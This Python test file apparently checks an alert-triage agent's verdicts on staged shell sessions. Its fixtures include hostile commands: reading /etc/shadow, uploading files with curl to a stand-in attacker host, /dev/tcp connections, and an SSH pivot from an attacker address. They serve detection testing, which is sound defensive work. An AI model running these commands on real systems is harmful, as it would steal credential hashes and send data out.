"""The verdict: what lies near the alert weighs, what merely shares a session or is everybody's habit does not."""

from tests.agent.staging import ATTACKER, Stage
from tests.agent.test_actors import office, worked


def test_what_an_administrator_did_elsewhere_in_a_busy_session_does_not_make_an_alert_an_attack() -> None:
    stage = office()
    shell = stage.log_in(2_000, 4_000, "ana", "10.0.0.5", "d")
    for n, command in enumerate((
        "cat /etc/shadow", "crontab jobs", "useradd -m bo", "tar czf /srv/b.tgz /home", "curl -T /srv/b.tgz http://h/",
        "systemctl enable shop",
    )):  # fmt: skip
        stage.run(2_010 + n * 20, 4_010 + n, shell, command, "ana", "d")
    alert = stage.run(2_300, 4_100, shell, "grep -c passwd /srv/app.conf", "ana", "d")
    found = worked(stage, alert)
    assert found.verdict == "benign" and found.operations == [alert]
    assert any("left out" in question for question in found.open_questions)
    assert any("reads password hashes" in question for question in found.open_questions)


def test_the_same_done_by_the_alert_itself_and_what_it_started_is_an_attack() -> None:
    stage = office()
    shell = stage.log_in(2_000, 4_000, "ana", "10.0.0.5", "d")
    alert = stage.run(2_010, 4_010, shell, "/bin/sh /home/ana/.x/go.sh", "ana", "d")
    stage.run(2_011, 4_011, 4_010, "cat /etc/shadow", "ana", "d")
    stage.run(2_012, 4_012, 4_010, f"curl -T /tmp/s http://{ATTACKER}/", "ana", "d")
    stage.connect(2_012.1, 4_012, ATTACKER)
    assert worked(stage, alert).verdict == "malicious"


def checks(stage: Stage, command: str) -> str:
    """The same check, run by a job every few minutes."""
    for n in range(8):
        stage.run(n * 300.0, 500 + n, 40, f"/bin/sh -c '{command}'", "monitor")
    return stage.run(2_500, 600, 40, f"/bin/sh -c '{command}'", "monitor")


def test_what_is_done_here_over_and_over_is_nobodys_attack() -> None:
    stage = Stage()
    assert worked(stage, checks(stage, "exec 3<>/dev/tcp/10.0.0.9/80")).verdict == "benign"


def test_a_machine_that_speaks_to_itself_opens_no_shell_over_the_network() -> None:
    stage = office()
    alert = stage.run(2_500, 600, 40, "bash -c '</dev/tcp/127.0.0.1/80'", "monitor")
    assert worked(stage, alert).verdict == "benign"


def test_a_session_reached_from_a_strangers_is_weighed_with_it() -> None:
    stage = office()
    shell = stage.log_in(1_500, 5_000, "ana", ATTACKER, "x")
    stage.run(1_510, 5_005, shell, "ssh root@10.0.0.9", "ana", "x")
    stage.connect(1_510.1, 5_005, "10.0.0.8", 22)
    inner = stage.log_in(1_510.3, 5_100, "root", "10.0.0.8", "y")
    done = stage.run(1_520, 5_105, inner, "cat /srv/plans", "root", "y")
    assert worked(stage, done).verdict != "benign"
